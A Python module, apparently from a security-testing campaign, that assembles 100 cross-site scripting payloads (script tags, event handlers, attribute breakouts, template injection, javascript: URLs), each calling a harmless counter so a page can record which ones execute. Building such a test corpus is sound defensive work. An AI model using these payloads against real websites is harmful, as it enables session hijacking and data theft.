"""A hundred texts that would run a script where a text is taken for markup, code, an address or a style.

Each calls `hematoLabRan(number)`, which a page of the campaign counts. `ALARM` installs it.
"""

from __future__ import annotations

from typing import Final

ALARM: Final = """
globalThis.hematoLabExecuted = [];
globalThis.hematoLabRan = (number) => { globalThis.hematoLabExecuted.push(number); };
"""
_MARKUP: Final = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script type=module>{run}</script>",
    '<script src="data:text/javascript,{run}"></script>',
    "</script><script>{run}</script>",
    "</script ><script>{run}</script >",
    "--></script><script>{run}</script>",
    "]]><script>{run}</script>",
    "</style><script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</noscript><script>{run}</script>",
    "</template><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<script>//\n{run}</script>",
    "<script>/*<script>*/{run}</script>",
    "<script/xss>{run}</script>",
    "\x00<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "\u202e<script>{run}</script>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
)
_ELEMENTS: Final = (
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    "<img/src/onerror={run}>",
    "<IMG SRC=x OnErRoR={run}>",
    "<img src=data: onerror={run} //",
    "<img srcset=x onerror={run}>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributename=x>",
    '<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></foreignObject></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    '<math href="javascript:{run}">x</math>',
    "<body onload={run}>",
    "<body onpageshow={run}>",
    '<iframe src="javascript:parent.{run}"></iframe>',
    '<iframe srcdoc="<script>parent.{run}</script>"></iframe>',
    '<object data="data:text/html,<script>parent.{run}</script>"></object>',
    '<embed src="javascript:{run}">',
    "<video><source onerror={run}></video>",
    "<video src=x onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}><option>x</select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button popovertarget=p autofocus onfocus={run}>x</button>",
    "<div contenteditable autofocus onfocus={run}>x</div>",
    '<a href="javascript:{run}" autofocus onfocus={run}>x</a>',
    "<marquee onstart={run}>x</marquee>",
    "<style onload={run}></style>",
    "<style>@import 'javascript:{run}';</style>",
    "<link rel=stylesheet href=data:, onload={run}>",
    '<link rel=modulepreload href="data:text/javascript,{run}" onload={run}>',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<base href="javascript:/{run}//">',
    '<form action="javascript:{run}"><input type=submit autofocus onfocus={run}></form>',
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<table background="javascript:{run}"><td>x',
    '<p style="animation: spin 1ms" onanimationstart={run}>x',
    "<x tabindex=0 autofocus onfocus={run}>x</x>",
    "<slot onslotchange={run}>x</slot>",
)
_QUOTES: Final = (
    '" onmouseover="{run}" autofocus onfocus="{run}',
    "' onmouseover='{run}' autofocus onfocus='{run}",
    '" style="x" onerror="{run}" src="x',
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    '";{run};//',
    "';{run};//",
    "`;{run};//",
    '\\";{run};//',
    "\\';{run};//",
    "${{{run}}}",
    "`${{{run}}}`",
    "\u2028{run}\u2028//",
    "\u2029{run}//",
    "\n{run}\n",
    "*/{run}/*",
    "</script>{run}<script>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{% raw %}}{{{{ {run} }}}}{{% endraw %}}",
    "#{{{run}}}",
    "javascript:{run}",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    'url("javascript:{run}")',
    "red;background:url(javascript:{run})",
)


def _numbered() -> tuple[str, ...]:
    templates = (*_MARKUP, *_ELEMENTS, *_QUOTES)
    return tuple(one.format(run=f"hematoLabRan({number})") for number, one in enumerate(templates))


PAYLOADS: Final = _numbered()
